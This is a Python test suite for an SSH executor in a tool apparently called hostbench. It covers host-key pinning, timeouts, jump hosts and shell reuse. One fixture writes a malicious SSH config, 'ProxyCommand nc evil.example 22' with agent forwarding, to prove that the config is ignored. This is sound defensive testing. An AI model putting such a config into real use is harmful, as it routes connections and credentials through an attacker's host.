"""Connections into environments: the stack key only, the user's ~/.ssh/config ignored, and the
host key pinned in the stack's own known_hosts."""

from __future__ import annotations

import contextlib
import io
import os
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hostbench.polling import wait_until
from hostbench.reach.executors import (
    STOP_GRACE_S,
    ExecResult,
    SSHExecutor,
    StopRequest,
    TrialTimeout,
)
from hostbench.reach.ssh import SSH_WAIT_S, StackAccess, TargetUnreachable, close, connection

if TYPE_CHECKING:  # paramiko is loaded by the tests that use it, not when each worker collects
    import paramiko

    from hostbench.stack.targets import Target
    from tests.sshd import Sshd


def _key() -> str:
    return Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
        serialization.NoEncryption()).decode()


def test_the_users_ssh_config_never_reaches_an_environment(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "config").write_text(
        "Host *\n  ForwardAgent yes\n  ProxyCommand nc evil.example 22\n  User mallory\n"
        "  Port 2200\n")
    monkeypatch.setenv("HOME", str(home))
    conn = connection("127.0.0.1", 2222, "root", StackAccess(_key(), tmp_path / "known_hosts"))
    assert conn.forward_agent is False and conn.gateway is None
    assert (conn.user, conn.port) == ("root", 2222)
    assert conn.connect_kwargs["allow_agent"] is False
    assert conn.connect_kwargs["look_for_keys"] is False


class OneHandshakeServer:
    """A real SSH server on 127.0.0.1 that shows ``host_key`` and refuses every login."""

    def __init__(self, host_key: paramiko.PKey) -> None:
        self.host_key = host_key
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        import paramiko

        with contextlib.suppress(Exception):
            sock, _ = self.listener.accept()
            transport = paramiko.Transport(sock)
            transport.add_server_key(self.host_key)
            transport.start_server(server=paramiko.ServerInterface())
            wait_until(lambda: not transport.is_active(), 10, 0.02)  # until the client goes
            transport.close()

    def close(self) -> None:
        self.listener.close()
        self.thread.join(timeout=10)


def _open(port: int, access: StackAccess) -> type[Exception]:
    conn = connection("127.0.0.1", port, "root", access, timeout=10)
    try:
        conn.open()
    except Exception as exc:  # which one is the point of the test
        return type(exc)
    finally:
        close(conn)
    raise AssertionError("the server let us in")


def test_the_first_host_key_is_pinned_and_another_one_later_is_refused(tmp_path: Path):
    import paramiko

    access = StackAccess(_key(), tmp_path / "state" / "known_hosts")
    first = OneHandshakeServer(paramiko.Ed25519Key.from_private_key(io.StringIO(_key())))
    try:  # the handshake succeeds (the key is new: pinned), the login is refused
        assert issubclass(_open(first.port, access), paramiko.AuthenticationException)
    finally:
        first.close()
    assert oct(access.known_hosts.stat().st_mode & 0o777) == "0o600"
    pinned = paramiko.HostKeys(str(access.known_hosts))
    assert pinned.lookup(f"[127.0.0.1]:{first.port}") is not None
    again = OneHandshakeServer(first.host_key)
    try:  # same key, same address: accepted again
        assert issubclass(_open(again.port, access), paramiko.AuthenticationException)
    finally:
        again.close()
    impostor = OneHandshakeServer(paramiko.Ed25519Key.from_private_key(io.StringIO(_key())))
    try:
        pinned.add(f"[127.0.0.1]:{impostor.port}", "ssh-ed25519", first.host_key)
        pinned.save(str(access.known_hosts))
        assert _open(impostor.port, access) is paramiko.BadHostKeyException
    finally:
        impostor.close()


def _descendants(pid: int) -> list[int]:
    children = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout
    found = [int(c) for c in children.split()]
    return found + [d for c in found for d in _descendants(c)]


def test_a_frozen_environment_fails_its_trial_within_a_bound_naming_it(fresh_sshd, tmp_path):
    """The environment's sshd and everything under it stopped (kill -STOP), as in a frozen VM,
    after the run's connections were opened: the next trial (in the shell kept open) and a
    service (in a session of its own) both end within a bound, naming the environment."""
    access = StackAccess(fresh_sshd.client_key.read_text(), tmp_path / "known_hosts")
    trials, services = (SSHExecutor("vm", "127.0.0.1", fresh_sshd.port, "root", access)
                        for _ in range(2))
    for executor in (trials, services):
        assert executor.run(["true"], 5).exit_code == 0
    assert fresh_sshd.proc is not None
    frozen = [fresh_sshd.proc.pid, *_descendants(fresh_sshd.proc.pid)]
    outcome: dict[str, BaseException] = {}

    def attempt(what: str, executor: SSHExecutor, stop: StopRequest | None) -> None:
        try:
            executor.run(["true"], 2, stop)
        except BaseException as exc:
            outcome[what] = exc

    for pid in frozen:
        os.kill(pid, signal.SIGSTOP)
    try:
        started = time.monotonic()
        threads = [threading.Thread(target=attempt, args=args, daemon=True)
                   for args in (("trial", trials, None), ("service", services, StopRequest()))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(90)
        waited = time.monotonic() - started
    finally:
        for pid in frozen:
            os.kill(pid, signal.SIGCONT)
    assert not any(t.is_alive() for t in threads), "a command still waits for the frozen sshd"
    assert isinstance(outcome["trial"], TargetUnreachable)
    assert str(outcome["trial"]).startswith(
        f"vm (root@127.0.0.1:{fresh_sshd.port}): no result within 2 s and the grace after it: "
        "the environment does not answer")
    assert isinstance(outcome["service"], TargetUnreachable)
    assert str(outcome["service"]).startswith(
        f"vm (root@127.0.0.1:{fresh_sshd.port}): no session opened within 15 s: its sshd does "
        "not answer")
    assert waited < SSH_WAIT_S + 2 + 2 * STOP_GRACE_S + 5
    assert trials.run(["true"], 5).exit_code == 0  # thawed: a new connection and shell
    for executor in (trials, services):
        executor.close()


def _connections_to(port: int) -> int:
    """TCP connections to 127.0.0.1:``port`` established now (``ss``)."""
    out = subprocess.run(["ss", "-Htn", "state", "established", f"( dport = :{port} )"],
                         capture_output=True, text=True, check=True).stdout
    return len(out.splitlines())


def _inner_sshd(sshd: Sshd, tmp_path: Path) -> Sshd:
    """A second sshd, the container's behind the guest's, with the same stack key."""
    from tests.sshd import Sshd, free_port

    inner_dir = tmp_path / "inner"
    inner_dir.mkdir(mode=0o700)
    for suffix in ("", ".pub"):  # the stack key is the same in the guest and the container
        src = sshd.client_key.with_suffix(suffix) if suffix else sshd.client_key
        (inner_dir / src.name).write_bytes(src.read_bytes())
    (inner_dir / sshd.client_key.name).chmod(0o600)
    return Sshd(inner_dir, free_port())


def _nested_target(sshd: Sshd, inner: Sshd) -> Target:
    from hostbench.stack.environments import Kind
    from hostbench.stack.targets import Target

    return Target(name="container-in-vm", kind=Kind.VM, cores=(1,), memory_mib=1024,
                  host_address="192.168.150.1", host="127.0.0.1", port=sshd.port, user="root",
                  accel="tcg", nested_port=inner.port)


def test_a_container_inside_a_vm_is_reached_through_the_guests_sshd(sshd, tmp_path):
    """Two real sshds: the guest's (the jump) and the container's behind it, its address as the
    guest sees it; both host keys are pinned, and closing the executor closes both."""
    from hostbench.reach.executors import executor_for

    inner = _inner_sshd(sshd, tmp_path).start()
    try:
        target = _nested_target(sshd, inner)
        access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
        jumped_before = (sshd.directory / "sshd.log").read_text().count("Accepted publickey")
        executor = executor_for(target, access)
        result = executor.run(["sh", "-c", "echo $SSH_CONNECTION"], 10)
        assert result.exit_code == 0
        assert result.stdout.split()[-1] == str(inner.port)  # it ran behind the jump
        assert (sshd.directory / "sshd.log").read_text().count(
            "Accepted publickey") == jumped_before + 1  # and went through the guest's sshd
        pinned = (tmp_path / "known_hosts").read_text()
        assert f"[127.0.0.1]:{inner.port} " in pinned and f"[127.0.0.1]:{sshd.port} " in pinned
        assert _connections_to(sshd.port) == 1
        executor.close()
        assert wait_until(lambda: _connections_to(sshd.port) == 0, 10, 0.05)
    finally:
        inner.stop()


def test_a_service_over_ssh_is_stopped_by_the_end_of_its_input(sshd, tmp_path):
    """The channel's end of input closes the service's guard: TERM reaches it (no second
    command), and the run returns once it has ended."""
    access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
    executor = SSHExecutor("vm", "127.0.0.1", sshd.port, "root", access)
    said = tmp_path / "said"
    started = tmp_path / "started"
    stop = StopRequest()
    outcome: list[ExecResult] = []
    service = ["sh", "-c", f"trap 'echo TERM > {said}; exit 0' TERM; touch {started}; "
                           "sleep 300 & wait"]
    thread = threading.Thread(target=lambda: outcome.append(executor.run(service, 120, stop)),
                              daemon=True)
    thread.start()
    try:
        assert wait_until(started.exists, 30, 0.01)
        stop.stop()
        thread.join(20)
        assert not thread.is_alive() and said.read_text() == "TERM\n"
        assert outcome[0].exit_code == 0
    finally:
        executor.close()


def test_a_container_still_starting_inside_its_answering_vm_is_waited_for(sshd, tmp_path,
                                                                        capsys, monkeypatch):
    """As after `pulumi up`: the guest answers, its container's sshd starts later. The first
    command waits for it, saying so; one that never comes is named when the wait is over."""
    from hostbench.reach import executors

    inner = _inner_sshd(sshd, tmp_path)
    access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
    starting = threading.Timer(1.0, inner.start)
    starting.start()
    executor = executors.executor_for(_nested_target(sshd, inner), access)
    try:
        assert executor.run(["true"], 10).exit_code == 0
        assert "its container is still starting" in capsys.readouterr().err
    finally:
        starting.join()
        executor.close()
        inner.stop()
    monkeypatch.setattr(executors, "STARTING_S", 0.5)
    never = executors.executor_for(_nested_target(sshd, inner), access)
    with pytest.raises(TargetUnreachable, match=r"container-in-vm \(the container inside its "
                                                r"VM\)"):
        never.run(["true"], 10)
    never.close()


def _no_delay(conn: object) -> int:
    sock = conn.transport.sock  # type: ignore[attr-defined]
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY)


def test_commands_go_out_without_waiting_for_the_last_packets_ack(sshd, tmp_path):
    """Nagle's algorithm is off on the connection's TCP socket (paramiko leaves it on, and a
    channel's requests then wait up to 40 ms for a delayed ACK), through a jump too."""
    access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
    executor = SSHExecutor("container", "127.0.0.1", sshd.port, "root", access)
    inner = _inner_sshd(sshd, tmp_path).start()
    jumped = SSHExecutor("nested", "127.0.0.1", inner.port, "root", access,
                         via=("127.0.0.1", sshd.port))
    try:
        for ex in (executor, jumped):
            assert ex.run(["true"], 10).exit_code == 0
        assert _no_delay(executor._connection()) != 0
        assert _no_delay(jumped._connection().gateway) != 0  # the jump's TCP socket
        assert not isinstance(jumped._connection().transport.sock, socket.socket)  # a channel
    finally:
        executor.close()
        jumped.close()
        inner.stop()


def _session_of(executor: SSHExecutor, stop: StopRequest | None = None) -> str:
    """The session (sshd's child shell) a command ran in."""
    result = executor.run(["sh", "-c", "ps -o sid= -p $$"], 10, stop)
    assert result.exit_code == 0, result.stderr
    return result.stdout.strip()


def test_trials_run_one_after_another_in_one_shell_kept_open(sshd, tmp_path):
    """Each trial's result is its own (output, errors, exit status, time inside), whatever it
    prints, reads or leaves unfinished; all go to one shell, and a command sent while it is busy
    gets a session of its own."""
    access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
    executor = SSHExecutor("container", "127.0.0.1", sshd.port, "root", access)
    try:
        first = _session_of(executor)
        forged = "\n__hostbench_end_0123456789abcdef=0\n"
        result = executor.run(["sh", "-c", 'printf "$1"; printf "$1" >&2; cat; printf "no end"; '
                                           "echo err >&2; exit 3", "sh", forged], 10)
        assert (result.stdout, result.exit_code) == (forged + "no end", 3)
        assert result.stderr.startswith(forged + "err\n")  # GNU time's line is taken out later
        assert result.inside_s is not None and result.inside_s < result.wall_s
        assert executor.run(["printf", "%s", "é\n\n"], 10).stdout == "é\n\n"
        with pytest.raises(TrialTimeout):
            executor.run(["sleep", "5"], 0.2)
        assert _session_of(executor) == first  # the same shell, after a timeout too
        busy = threading.Thread(target=executor.run, args=(["sleep", "1"], 10), daemon=True)
        busy.start()
        assert wait_until(lambda: executor._shell_busy.locked(), 5, 0.01)
        assert _session_of(executor) not in ("", first)  # meanwhile: a session of its own
        busy.join(10)
        assert _session_of(executor, StopRequest()) != first  # a service: always its own
        assert _session_of(executor) == first
    finally:
        executor.close()


def _quietly(executor: SSHExecutor, argv: list[str]) -> None:
    with contextlib.suppress(TargetUnreachable):
        executor.run(argv, 600)


def test_a_trial_in_the_shell_ends_with_its_connection(sshd, tmp_path):
    """hostbench gone (its connection closed) while a trial runs in the shell: the guard kills
    the trial's process group, and the shell ends."""
    access = StackAccess(sshd.client_key.read_text(), tmp_path / "known_hosts")
    executor = SSHExecutor("container", "127.0.0.1", sshd.port, "root", access)
    marker = f"hostbench-test-{os.getpid()}-shell"
    trial = ["sh", "-c", 'sleep 300 & wait', marker]
    running = threading.Thread(target=_quietly, args=(executor, trial), daemon=True)

    def alive() -> bool:
        found = subprocess.run(["pgrep", "-f", f"sh -c sleep 300 & wait {marker}"],
                               capture_output=True, text=True).stdout
        return bool(found.split())

    running.start()
    try:
        assert wait_until(alive, 10, 0.02), "the trial never started"
        shell = executor._shell
        assert shell is not None
        shell.channel.get_transport().close()  # as when hostbench is killed
        assert wait_until(lambda: not alive(), 10, 0.05), "the trial outlived its connection"
        running.join(10)
        assert not running.is_alive()
    finally:
        executor.close()
